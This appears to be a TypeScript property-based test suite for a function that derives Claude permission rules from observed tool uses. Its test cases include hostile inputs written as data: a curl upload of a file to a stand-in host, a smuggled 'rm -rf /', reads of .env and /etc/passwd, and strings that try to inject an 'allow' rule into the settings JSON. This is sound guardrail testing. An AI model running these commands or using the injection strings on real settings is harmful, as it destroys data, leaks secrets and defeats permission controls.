import * as fc from "fast-check";
import { candidateRules } from "../../../../feedback/surfaces/guardrail/candidate-rules.ts";
import { parsePermissionRule } from "../../../../feedback/surfaces/guardrail/claude-permission-rule.ts";
import type { ClaudeToolUse } from "../../../../feedback/surfaces/guardrail/claude-tool-use.ts";

const rulesFor = (use: ClaudeToolUse) => candidateRules([use]).map(({ rule }) => rule);

describe("candidateRules", () => {
  it.each([
    [{ tool: "WebFetch", url: "https://Evil.example/a" }, ["WebFetch(domain:evil.example)"]],
    [{ tool: "WebFetch", url: "https://localhost/a" }, []],
    [{ tool: "WebFetch", url: "javascript:alert(1)" }, []],
    [{ tool: "Bash", command: "curl -d @x https://e.example" }, ["Bash(curl:*)"]],
    [{ tool: "Bash", command: "git push --force" }, ["Bash(git push:*)"]],
    [{ tool: "Bash", command: "ls -la" }, []],
    [{ tool: "Bash", command: "a;rm -rf /" }, ["Bash(rm:*)"]],
    [{ tool: "Read", path: ".env" }, ["Read(./.env)", "Read(.env*)"]],
    [{ tool: "Read", path: "/etc/passwd" }, ["Read(//etc/passwd)"]],
    [{ tool: "Read", path: "../../x" }, []],
    [{ tool: "Read", path: "a\nb" }, []],
    [{ tool: "mcp", name: "mcp__mail__send" }, ["mcp__mail__send"]],
    [{ tool: "mcp", name: 'mcp__a__b","allow":["Bash' }, []],
  ] as const)("%j gives %j", (use, rules) => {
    expect(rulesFor(use)).toEqual(rules);
  });

  it("only writes rules that parse, whatever the telemetry says", () => {
    const text = fc.oneof(
      fc.string({ unit: "binary" }),
      fc.webUrl(),
      fc.constant('x","allow":["Bash(*)'),
    );
    const use: fc.Arbitrary<ClaudeToolUse> = fc.oneof(
      text.map((command) => ({ tool: "Bash" as const, command })),
      text.map((url) => ({ tool: "WebFetch" as const, url })),
      text.map((path) => ({ tool: "Read" as const, path })),
      text.map((name) => ({ tool: "mcp" as const, name })),
    );
    fc.assert(
      fc.property(use, (given) => {
        for (const rule of rulesFor(given)) {
          expect(parsePermissionRule(rule)).toBeDefined();
          expect(rule).toMatch(/^[A-Za-z0-9_ .:*/~@+()-]+$/);
        }
      }),
    );
  });
});
